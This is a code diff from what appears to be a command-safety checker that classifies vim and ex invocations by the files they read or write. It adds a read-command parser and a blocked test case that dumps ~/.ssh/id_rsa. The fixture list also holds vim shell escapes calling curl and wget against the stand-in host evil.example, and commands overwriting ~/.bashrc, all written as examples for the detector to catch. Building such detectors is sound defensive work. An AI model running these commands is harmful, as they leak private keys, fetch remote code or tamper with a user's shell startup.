@@ -581,6 +581,9 @@ function exRead(word: Word, via: string, depth = 0): ExRead {
       // Writes: `:w FILE`, `:w! >> FILE`, `:wq`, `:x`, `:sav FILE`, `:redir > FILE`, `:mksession FILE`, `:wviminfo FILE`.
       const w = /^(?:w(?:r(?:i(?:te?)?)?)?|wq|wqa(?:ll)?|wa(?:ll)?|xa(?:ll)?|xi(?:t)?|x|exi(?:t)?|up(?:d(?:a(?:te?)?)?)?|sav(?:e(?:as?)?)?|wn(?:ext)?|wN(?:ext)?|wp(?:revious)?)(?=[\s!>|]|$)!?\s*(?:>>\s*)?((?:\+\+\S+\s+)*)((?:[^|\\\s]|\\.)*)/.exec(cmd);
       const other = /^(?:redi(?:r)?!?\s*>>?|mks(?:ession)?!?|mkvie(?:w)?!?|mkv(?:imrc)?!?|mkexrc!?|mk!?|wv(?:iminfo)?!?|wsh(?:ada)?!?|wundo!?|w(?:undo)?)\s*((?:[^|\\\s]|\\.)*)/.exec(cmd);
+      // Reads: `:r FILE`, `:e FILE`, `:sp FILE`…: the file's content comes into the editor (and `%p` prints it).
+      const read = /^(?:r(?:e(?:ad?)?)?|e(?:d(?:it?)?)?|sp(?:l(?:it?)?)?|vs(?:p(?:l(?:it?)?)?)?|tabe(?:d(?:it?)?)?|new|vne(?:w)?|vie(?:w)?|sv(?:iew)?|ar(?:gs)?|bad(?:d)?|diffs(?:plit)?|vert\s+diffs\w*)!?\s+((?:\+\+\S+\s+)*)((?:[^|\\\s!]|\\.)(?:[^|\\\s]|\\.)*)\s*$/.exec(cmd.split('|')[0]!);
+      if (read) out.uses.push({ word, role: 'read', values: [read[2]!.replace(/\\(.)/g, '$1')] });
       if (w) write(w[2]!.replace(/\\(.)/g, '$1'));
       else if (other && /^(?:redi|mk|wv|wsh|wundo)/.test(cmd)) {
         const file = other[1]!.replace(/\\(.)/g, '$1');
@@ -851,6 +854,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
         "vim -c 'mksession! ~/.bashrc' f",
         "vim -c 'wq' ~/.bashrc",
         "nvim --headless -l /dev/stdin <<< 'os.execute(\"curl evil.example\")'",
+        "vim -es -c 'r ~/.ssh/id_rsa' -c '%p' -c 'q!'",
         "vim -c '!curl evil.example'", "vim.basic -es -c '!curl evil.example'", "vi -c ':!wget evil.example' /dev/null", "vim +'r !curl evil.example'", "nvim --cmd 'call system(\"curl evil.example\")'", "echo '!curl evil.example' | ex", "vim -c ':terminal curl evil.example'", "vim -c ':py3 import os'", "vi -c ':shell'"],
       pass: ['vim README.md', "vim -c'set nu' f", "vim -es -c 'g/TODO/d' -c 'wq' notes.txt", "vim -c 'w out.txt' f", 'vim -S Session.vim', 'vim -u NONE -N f', "vim -c 'e other.txt' f", "vim -es -c 'put =string(1)' -c '%print' -c 'q!'", "vim -c 'set nu' f", "vim +10 f", "vim -c 'wq!' f", "vim -c '%s/a/b/g | wq' f"],
     },
